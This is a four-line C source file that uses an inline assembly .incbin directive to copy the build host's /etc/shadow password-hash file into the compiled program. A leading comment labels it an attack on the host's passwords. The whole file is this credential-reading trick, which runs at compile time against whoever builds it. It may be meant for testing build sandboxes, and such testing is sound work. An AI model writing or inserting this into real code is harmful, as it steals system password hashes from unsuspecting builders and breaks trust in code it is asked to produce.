// Attacks: the host's passwords: lets the assembler copy them into the program.
__asm__(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/shadow\"\n");
extern const char stolen[];
int main(void) { return stolen[0]; }
